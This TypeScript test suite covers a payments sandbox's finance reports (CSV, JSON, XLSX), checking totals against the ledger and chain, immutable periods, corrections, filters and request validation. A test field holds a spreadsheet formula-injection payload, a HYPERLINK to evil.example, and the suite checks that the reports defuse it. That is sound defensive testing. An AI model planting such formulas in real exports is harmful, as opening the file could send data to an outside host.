// Reports for finance people, over HTTP: a short year of the sandbox, with everything that its simulator can do. The reports
// agree with the ledger and with the chain. A report stays the same file whatever is corrected later.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { setTimeout as sleep } from 'node:timers/promises';
import {
  type AssetFunds,
  EXECUTION_COLUMNS,
  type Event,
  MOVEMENT_COLUMNS,
  type Movement,
  PLAN_COLUMNS,
  SIMULATED_EVENTS,
  type SimulatedEvent,
} from '@fairway/wire';
import { readXlsx } from 'hucre/xlsx';
import { collectToWallet } from '../collectForms.ts';
import { freshEmail } from '../collectCalls.ts';
import {
  freshAddress,
  freshReference,
  type PaymentsTest,
  startPaymentsTest,
  type WholePlan,
} from '../paymentsHarness.ts';
import { csvRows, type FileRow, reportsOn } from '../reportsHarness.ts';

let payments: PaymentsTest;
let reports: ReturnType<typeof reportsOn>;
const played = new Set<SimulatedEvent>();
before(async () => {
  // A sandbox of its own, because its totals are those of all that is in it.
  payments = await startPaymentsTest(undefined, []);
  reports = reportsOn(payments);
  await playYear();
});
after(() => payments?.close());

/** Longer than a report waits after its period. */
const SETTLED = 'PT10S';
function play(plan: WholePlan, ...events: readonly SimulatedEvent[]): Promise<WholePlan> {
  for (const event of events) played.add(event);
  return payments.played(plan, ...events);
}

const watched = (fields: object = {}) =>
  payments.plan({
    amountIn: '70000000',
    options: { mode: 'STANDARD', depositAddress: freshAddress() },
    ...fields,
  });

/** The ends of the months, the first of which is the begin of the year. */
let months: string[] = [];
let corrected: WholePlan;

async function nextMonth(): Promise<void> {
  await payments.advance('P20D');
  months = [...months, new Date(await serviceNowMs()).toISOString()];
}

async function serviceNowMs(): Promise<number> {
  const { body } = await payments.service.request('/v1/sandbox/clock', {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ advance: 'PT1S' }),
  });
  return Date.parse((body as { now: string }).now);
}

async function playYear(): Promise<void> {
  months = [new Date((await serviceNowMs()) - 1_000).toISOString()];
  const formula = `=HYPERLINK("http://evil.example?${freshReference()}","-1+2")`;
  corrected = await play(
    await watched({ clientReference: formula }),
    'deposit.exact',
    'swap.done',
    'payout.short',
  );
  const held = await play(await watched(), 'deposit.exact', 'swap.done', 'payout.held');
  await play(held, 'payout.done', 'payout.returned');
  await nextMonth();
  const failing = await play(await watched({ clientReference: `+${freshReference()}` }), 'deposit.over');
  await play(failing, 'swap.done', 'swap.again', 'payout.failed');
  await play(await watched(), 'deposit.partial', 'deposit.otherToken', 'deposit.dust');
  await play(await watched(), 'deposit.exact', 'swap.reverted');
  await nextMonth();
  await play(await watched(), 'deposit.late');
  const iban = {
    type: 'bank',
    name: 'Orla Finch',
    country: 'DE',
    account: { iban: 'DE89370400440532013000' },
  };
  await play(
    await watched({ corridorId: 'usdc-eur-iban', recipient: iban }),
    ...(['deposit.exact', 'swap.done', 'payout.deducted'] as const),
  );
  const email = freshEmail();
  const collecting = await play(
    await payments.plan({
      amountIn: '70000000',
      corridorId: 'usdc-eur-collect',
      recipient: { type: 'email', email },
      options: { mode: 'DIGITAL_COLLECT', depositAddress: freshAddress() },
    }),
    ...(['deposit.exact', 'swap.done'] as const),
  );
  await collectToWallet(payments.service, email, freshAddress());
  await play(await payments.get(collecting.planId), 'delivery.held', 'payout.done');
  await nextMonth();
  await payments.advance(SETTLED);
}

const whole = () => ({ from: months[0], to: months.at(-1) });

/** What rows add up to, by token and kind. */
function sumsOf(rows: readonly FileRow[]): Record<string, bigint> {
  const sums: Record<string, bigint> = {};
  for (const { address, kind, amount } of rows)
    sums[`${address} ${kind}`] = (sums[`${address} ${kind}`] ?? 0n) + BigInt(amount ?? '');
  return withoutZeros(sums);
}

function withoutZeros(sums: Record<string, bigint>): Record<string, bigint> {
  const entries = Object.entries(sums).filter(([, sum]) => sum !== 0n);
  return Object.fromEntries(entries.sort(([a], [b]) => (a < b ? -1 : 1)));
}

async function allPlans(): Promise<readonly WholePlan[]> {
  const { json } = await payments.ask('/v1/payments?limit=100');
  return (json as { data: WholePlan[] }).data;
}

const FUNDS: Readonly<Record<string, (funds: AssetFunds) => string>> = {
  DEPOSIT: ({ received }) => received,
  SWAP_IN: ({ swapped }) => swapped.in,
  SWAP_OUT: ({ swapped }) => swapped.out,
  PAYOUT: ({ paidOut }) => paidOut,
  RETURN: ({ returned }) => returned,
  REFUND: ({ refunded }) => refunded,
  DEDUCTION: ({ deducted }) => deducted,
};

test('the rows and the control totals of a year are the sums of the funds of all plans', async () => {
  // What a recipient does on the page moves no money.
  const moving = SIMULATED_EVENTS.filter((event) => !event.startsWith('collect.'));
  assert.deepEqual([...played].sort(), moving.sort(), 'everything that can be simulated');
  const { report, file } = await reports.report(whole());
  const rows = csvRows(file);
  assert.equal(rows.length, report.rows);
  const sums: Record<string, bigint> = {};
  const plans = await allPlans();
  for (const funds of plans.flatMap((plan) => plan.funds))
    for (const [kind, amountIn] of Object.entries(FUNDS)) {
      const key = `${'address' in funds.asset ? funds.asset.address : funds.asset.currency} ${kind}`;
      sums[key] = (sums[key] ?? 0n) + BigInt(amountIn(funds));
    }
  assert.deepEqual(sumsOf(rows), withoutZeros(sums));
  const totals = (report.controlTotals ?? []).map(({ asset, kind, amount }) => [
    `${'address' in asset ? asset.address : asset.currency} ${kind}`,
    BigInt(amount),
  ]);
  assert.deepEqual(withoutZeros(Object.fromEntries(totals)), withoutZeros(sums));
  const told: string[] = [];
  for (const { planId } of plans) {
    const { json } = await payments.ask(`/v1/payments/${planId}/movements?limit=100`);
    told.push(...(json as { data: Movement[] }).data.map(({ movementId }) => movementId));
  }
  assert.deepEqual(rows.map(({ movementId }) => movementId).sort(), told.sort(), 'each movement is one row');
});

test('the rows that are on the chain are the transfers that the chain has there', async () => {
  const rows = csvRows((await reports.report(whole())).file).filter(({ logIndex }) => logIndex !== '');
  assert.ok(rows.length > 10);
  type Log = { readonly logIndex: string; readonly address: string; readonly data: string };
  for (const { txHash, logIndex, address, amount, reverses, blockNumber } of rows) {
    if (reverses !== '') continue;
    const { logs, blockNumber: block } = await payments.service.rpc<{ logs: Log[]; blockNumber: string }>(
      'eth_getTransactionReceipt',
      [txHash],
    );
    const log = logs.find((each) => Number(each.logIndex) === Number(logIndex)) ?? assert.fail();
    assert.deepEqual(
      [log.address, BigInt(log.data), Number(block)],
      [address?.toLowerCase(), BigInt(amount ?? ''), Number(blockNumber)],
    );
  }
});

test('the files of the parts of a year are the file of the year', async () => {
  const parts: FileRow[] = [];
  for (const [index, from] of months.slice(0, -1).entries()) {
    const rows = csvRows((await reports.report({ from, to: months[index + 1] })).file);
    assert.ok(rows.length > 0 && rows.every(({ recordedAt = '' }) => recordedAt >= from));
    parts.push(...rows);
  }
  const { report, file } = await reports.report(whole());
  assert.deepEqual(parts, csvRows(file));
  assert.deepEqual(report.columns, MOVEMENT_COLUMNS);
  const json = (await reports.report({ ...whole(), format: 'json' })).file;
  const objects = JSON.parse(json) as Record<string, string | number | null>[];
  const texts = objects.map((row) => {
    const cells = Object.entries(row).map(([name, value]) => {
      const text = value === null ? '' : String(value);
      return [name, /^[=+@-]/.test(text) && !/^-[\d.]+$/.test(text) ? `'${text}` : text];
    });
    return Object.fromEntries(cells) as FileRow;
  });
  assert.deepEqual(texts, parts, 'JSON has the same cells, without what a spreadsheet needs');
});

test('each plan that money moved of is a row, with what was planned and what was settled', async () => {
  const { report, file } = await reports.report({ ...whole(), type: 'plans' });
  assert.deepEqual(report.columns, PLAN_COLUMNS);
  const rows = csvRows(file);
  const { report: moved, file: movements } = await reports.report(whole());
  const totals = (of: typeof report) => of.controlTotals?.map(({ rows: _, ...total }) => total);
  assert.deepEqual(totals(report), totals(moved), 'the totals are those of the ledger');
  const ids = new Set(csvRows(movements).map(({ planId }) => planId));
  assert.deepEqual(new Set(rows.map(({ planId }) => planId)), ids);
  assert.equal(rows.length, ids.size, 'one row each');
  const plans = new Map((await allPlans()).map((plan) => [plan.planId, plan]));
  for (const row of rows) {
    const plan = plans.get(row.planId ?? '') ?? assert.fail(row.planId);
    const [source, target] = [row.tokenIn, row.tokenOut].map((token) =>
      plan.funds.find(({ asset }) => 'address' in asset && asset.address === token),
    );
    assert.deepEqual(
      [row.plannedAmountIn, row.depositedAmount, row.swappedInAmount, row.refundedInAmount],
      [plan.amountIn, source?.received ?? '0', source?.swapped.in ?? '0', source?.refunded ?? '0'],
    );
    assert.deepEqual(
      [row.swappedOutAmount, row.paidOutAmount, row.returnedAmount, row.deductedAmount],
      [target?.swapped.out ?? '0', target?.paidOut ?? '0', target?.returned ?? '0', target?.deducted ?? '0'],
    );
    if (plan.status === 'COMPLETED') assert.match(row.status ?? '', /^PAID/);
    const took = Number(row.depositSeconds) + Number(row.swapSeconds) + Number(row.payoutSeconds);
    if (row.totalSeconds !== '')
      assert.ok(Math.abs(took - Number(row.totalSeconds)) <= 3, JSON.stringify(row));
  }
  const statuses = [...new Set(rows.map(({ status }) => status))].sort();
  assert.deepEqual(statuses, ['DEPOSITED', 'PAID', 'PAID_IN_PART', 'RETURNED', 'SWAPPED']);
  assert.ok(rows.some(({ otherMovements }) => otherMovements !== '0'));
  const parts: FileRow[] = [];
  for (const [index, from] of months.slice(0, -1).entries()) {
    const asked = { type: 'plans', from, to: months[index + 1] };
    parts.push(...csvRows((await reports.report(asked)).file));
  }
  const paid = (of: readonly FileRow[]) => of.reduce((sum, row) => sum + BigInt(row.paidOutAmount ?? ''), 0n);
  assert.equal(paid(parts), paid(rows), 'the amounts of parts add up to those of the whole');
  const again = await reports.complete({ ...whole(), type: 'plans', format: 'xlsx' });
  const { sheets } = await readXlsx(new Uint8Array(again.bytes));
  assert.equal(sheets[0]?.rows.length, rows.length + 1);
});

test('a period that is over stays the same file, and a correction is rows of its own time', async () => {
  const first = { from: months[0], to: months[1] };
  const before = await reports.report(first);
  const paid = csvRows(before.file).find(
    ({ planId, kind }) => planId === corrected.planId && kind === 'PAYOUT',
  );
  const { movementId: corrects, providerReference, amount } = paid ?? assert.fail();
  const right = { outcome: 'DONE', providerReference, amount: String(BigInt(amount ?? '') - 1n), corrects };
  const { status, text } = await payments.report(corrected, 'CUSTODIAN_PAYOUT', right);
  assert.equal(status, 200, text);
  const replaced = await payments.ask(`/v1/payments/${corrected.planId}`);
  assert.equal(replaced.status, 200);
  const to = new Date(await serviceNowMs()).toISOString();
  await payments.advance(SETTLED);
  const later = csvRows((await reports.report({ from: months.at(-1), to })).file);
  assert.deepEqual(
    later.map(({ kind, status: how, reverses, amount: units }) => [kind, how, reverses, units]),
    [
      ['PAYOUT', 'REVERSAL', corrects, `-${amount}`],
      ['PAYOUT', 'RECORDED', '', right.amount],
    ],
  );
  const again = await reports.report(first);
  assert.equal(again.file, before.file);
  assert.equal(again.report.sha256, before.report.sha256);
  assert.equal(await reports.fileOf(before.report), before.file, 'an old report has its file');
});

test('a text that looks like a formula is defused, and numbers stay numbers', async () => {
  const { file } = await reports.report(whole());
  const cells = csvRows(file).flatMap((row) => Object.values(row));
  const dangerous = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell));
  assert.ok(dangerous.length > 0 && dangerous.every((cell) => /^-\d+(\.\d+)?$/.test(cell)), dangerous.join());
  assert.ok(cells.some((cell) => cell.startsWith(`'=HYPERLINK("http://evil`)));
  assert.ok(cells.some((cell) => cell.startsWith(`'+INV`) || cell.startsWith(`'+`)));
});

/** A cell of a workbook as CSV has it. Spreadsheets calculate with 15 digits, so what they hold as numbers is compared as such. */
function cellText(value: unknown, text: string): string {
  if (value === null || value === undefined) return '';
  if (typeof value === 'number') return value === Number(text) ? text : String(value);
  if (typeof value === 'string') return value;
  assert.ok(value instanceof Date);
  const time = value.toISOString();
  return text.length === 10 ? time.replace('T00:00:00.000Z', '') : time;
}

test('a workbook has the cells of the CSV file with types, and is the same file again', async () => {
  const { report, bytes } = await reports.complete({ ...whole(), format: 'xlsx' });
  const { sheets } = await readXlsx(new Uint8Array(bytes));
  const [header = [], ...rows] = sheets[0]?.rows ?? [];
  assert.deepEqual(header, MOVEMENT_COLUMNS);
  const csv = await reports.report(whole());
  const expected = csvRows(csv.file);
  assert.equal(rows.length, report.rows);
  for (const [place, row] of expected.entries()) {
    const texts = Object.entries(row).map(([column, text], index) => [
      column,
      cellText(rows[place]?.[index], text),
    ]);
    const undefused = Object.entries(row).map(([column, text]) => [column, text.replace(/^'(?=[=+@-])/, '')]);
    assert.deepEqual(texts, undefused);
  }
  const typesOf = (column: string) => {
    const index = header.indexOf(column);
    const cells = rows.map((row) => row[index]).filter((cell) => cell !== null && cell !== undefined);
    return [...new Set(cells.map((cell) => (cell instanceof Date ? 'date' : typeof cell)))];
  };
  for (const column of ['amountDecimal', 'driftBps', 'realisedRate', 'chainId', 'blockNumber'])
    assert.deepEqual(typesOf(column), ['number'], column);
  for (const column of ['valueDate', 'recordedAt', 'createdAt']) assert.deepEqual(typesOf(column), ['date']);
  assert.deepEqual(typesOf('amount'), ['string'], 'more digits than spreadsheets calculate with');
  assert.deepEqual(report.controlTotals, csv.report.controlTotals);
  const again = await reports.complete({ ...whole(), format: 'xlsx' });
  assert.ok(again.bytes.equals(bytes));
});

/** The gas of a transaction and its cost in wei, by its receipt. */
async function gasOf(txHash: string | undefined): Promise<readonly string[]> {
  type Gas = { readonly gasUsed: string; readonly effectiveGasPrice: string };
  const { gasUsed, effectiveGasPrice } = await payments.service.rpc<Gas>('eth_getTransactionReceipt', [
    txHash,
  ]);
  return [String(BigInt(gasUsed)), String(BigInt(gasUsed) * BigInt(effectiveGasPrice))];
}

test('each execution of a swap is a row: what was quoted against what was received', async () => {
  const { report, file } = await reports.report({ ...whole(), type: 'execution-quality' });
  assert.deepEqual(report.columns, EXECUTION_COLUMNS);
  const rows = csvRows(file);
  const movements = csvRows((await reports.report(whole())).file);
  const spent = movements.filter(({ kind }) => kind === 'SWAP_IN');
  assert.deepEqual(
    rows.map(({ executionId, amountIn, txHash }) => [executionId, amountIn, txHash]),
    spent.map(({ movementId, amount, txHash }) => [movementId, amount, txHash]),
  );
  const swaps = { SWAP_IN: 0, SWAP_OUT: 0 };
  const moved = (await reports.report(whole())).report.controlTotals?.filter(({ kind }) => kind in swaps);
  assert.deepEqual(report.controlTotals, moved, 'the totals are those of the ledger');
  const plans = new Map((await allPlans()).map((plan) => [plan.planId, plan]));
  for (const row of rows) {
    // A plan shows the quote of its newest instructions, which these plans executed.
    const quote = plans.get(row.planId ?? '')?.quote ?? assert.fail(row.planId);
    const [expected, received] = [BigInt(row.expectedAmount ?? ''), BigInt(row.receivedAmount ?? '')];
    assert.deepEqual(
      [row.expectedAmount, row.minimumAmount, row.quotedBlock, row.slippageBps, row.quotedGasUnits],
      [
        quote.amountOut,
        quote.route?.limits.minAmountOut,
        String(quote.asOf.blockNumber),
        String(quote.route?.limits.slippageBps),
        quote.fees?.gas.units,
      ],
    );
    assert.equal(row.differenceAmount, String(received - expected));
    assert.equal(row.differenceBps, String(((received - expected) * 10_000n) / expected));
    assert.equal(Number(row.blocksBetween), Number(row.settledBlock) - Number(row.quotedBlock));
    assert.ok(Number(row.blocksBetween) >= 1 && row.settledAt !== '' && row.txHash !== '');
    assert.deepEqual([row.gasUsed, row.gasCost], await gasOf(row.txHash));
  }
  const gas = ({ gasUsed, gasCost }: FileRow) => [gasUsed, gasCost];
  assert.deepEqual(rows.map(gas), spent.map(gas));
  const others = movements.filter((row) => !spent.includes(row));
  assert.ok(others.every((row) => gas(row).join('') === ''));
  assert.ok(rows.some(({ reason }) => reason === 'SECOND_EXECUTION'));
  const asked = { ...whole(), type: 'execution-quality', columns: ['txHash', 'differenceBps'] };
  const { sheets } = await readXlsx(
    new Uint8Array((await reports.complete({ ...asked, format: 'xlsx' })).bytes),
  );
  assert.deepEqual(
    sheets[0]?.rows.slice(1),
    rows.map(({ txHash, differenceBps }) => [txHash, Number(differenceBps)]),
  );
  const { file: json } = await reports.report({ ...asked, format: 'json' });
  const objects = JSON.parse(json) as Record<string, string>[];
  assert.deepEqual(
    objects,
    rows.map(({ txHash, differenceBps }) => ({ txHash, differenceBps })),
  );
});

test('columns, a filter and a time zone decide what a file shows', async () => {
  const columns = ['valueDate', 'amountDecimal', 'symbol', 'recipientMasked'];
  const filter = { corridorId: 'usdc-aud-bank', kind: 'PAYOUT' };
  const asked = { ...whole(), columns, filter, timezone: 'Pacific/Kiritimati' };
  const { report, file } = await reports.report(asked);
  assert.deepEqual([report.columns, report.filter, report.timezone], [columns, filter, asked.timezone]);
  assert.ok(file.startsWith('valueDate,amountDecimal,symbol,recipientMasked\r\n'), file);
  const utc = csvRows((await reports.report({ ...asked, timezone: undefined })).file);
  const rows = csvRows(file);
  assert.ok(rows.length > 1);
  for (const [index, { valueDate = '', symbol, recipientMasked, amountDecimal }] of rows.entries()) {
    const aheadMs = Date.parse(valueDate) - Date.parse(utc[index]?.valueDate ?? '');
    assert.ok(aheadMs === 0 || aheadMs === 86_400_000, valueDate);
    assert.deepEqual([symbol, recipientMasked], ['tAUD', 'J. C. AU …5678']);
    assert.match(amountDecimal ?? '', /^\d+\.\d{6}$/);
  }
  assert.ok((report.controlTotals ?? []).every(({ kind }) => kind === 'PAYOUT'));
});

test('a corridor that is not offered is refused, unless a plan of the organisation is of it', async () => {
  const ask = { ...whole(), type: 'movements', format: 'csv', filter: { corridorId: 'usdc-aud-bnak' } };
  const { status, problem } = await reports.call('', ask);
  assert.deepEqual([status, problem.code], [400, 'validation-failed']);
  const [error] = problem.errors ?? [];
  assert.partialDeepStrictEqual(error, { pointer: '/filter/corridorId', suggestions: ['usdc-aud-bank'] });
  assert.match(error?.detail ?? '', /"usdc-aud-bnak" is not offered here, .* GET \/v1\/markets\/corridors/);
});

test('a report is told of when it is asked for and when it is made, and is in the list', async () => {
  const { report } = await reports.report(whole());
  const { reportId } = report;
  const told = async () => {
    const { json } = await payments.ask(`/v1/events?subject=${reportId}&limit=100`);
    return (json as { data: Event[] }).data;
  };
  for (const untilMs = performance.now() + 20_000; (await told()).length < 2; await sleep(50))
    assert.ok(performance.now() < untilMs);
  const events = await told();
  assert.deepEqual(
    events.map(({ type, sequence }) => `${sequence} ${type}`),
    ['1 report.updated', '2 report.completed'],
  );
  assert.deepEqual(events[1]?.data.object, report);
  const { list } = await reports.call('?limit=1');
  assert.deepEqual(list.data, [report]);
  const next = await reports.call(`?limit=1&cursor=${list.nextCursor}`);
  assert.equal(next.list.data.length, 1);
  assert.notEqual(next.list.data[0]?.reportId, reportId);
  const head = await fetch(`${payments.service.url}/v1/reports/${reportId}/download`, {
    method: 'HEAD',
    headers: { authorization: payments.service.authorization },
  });
  assert.deepEqual([head.status, head.headers.get('content-length')], [200, String(report.bytes)]);
});

test('what cannot be reported is refused with the field and the remedy', async () => {
  const base = { type: 'movements', format: 'csv', ...whole() };
  const refusals: [object, string, string?][] = [
    [{ to: '2999-01-01T00:00:00Z' }, 'validation-failed', '/to'],
    [{ from: whole().to }, 'validation-failed', '/from'],
    [{ timezone: 'Mars/Olympus' }, 'validation-failed', '/timezone'],
    [{ timezone: '+02:00' }, 'validation-failed', '/timezone'],
    [{ columns: ['amount', 'secret'] }, 'validation-failed', '/columns/1'],
    [{ columns: ['amount', 'amount'] }, 'validation-failed', '/columns/1'],
    [{ filter: { kind: 'GIFT' } }, 'validation-failed', '/filter/kind'],
    [{ type: 'execution-quality', filter: { kind: 'PAYOUT' } }, 'validation-failed', '/filter/kind'],
    [{ type: 'execution-quality', columns: ['movementId'] }, 'validation-failed', '/columns/0'],
    [{ type: 'gifts' }, 'validation-failed', '/type'],
    [{ format: 'camt.053' }, 'format-not-supported'],
  ];
  for (const [fields, code, pointer] of refusals) {
    const { status, problem } = await reports.call('', { ...base, ...fields });
    assert.deepEqual([status, problem.code, problem.errors?.[0]?.pointer], [400, code, pointer]);
  }
  const soon = await reports.order({ ...base, to: new Date((await serviceNowMs()) - 10).toISOString() });
  const early = await reports.call(`/${soon.reportId}/download`);
  assert.deepEqual([early.status, early.problem.code], [409, 'report-not-ready']);
  assert.equal((await reports.call(`/rep_${'0'.repeat(32)}`)).status, 404);
  assert.equal((await reports.call(`/rep_${'0'.repeat(32)}/download`)).status, 404);
});
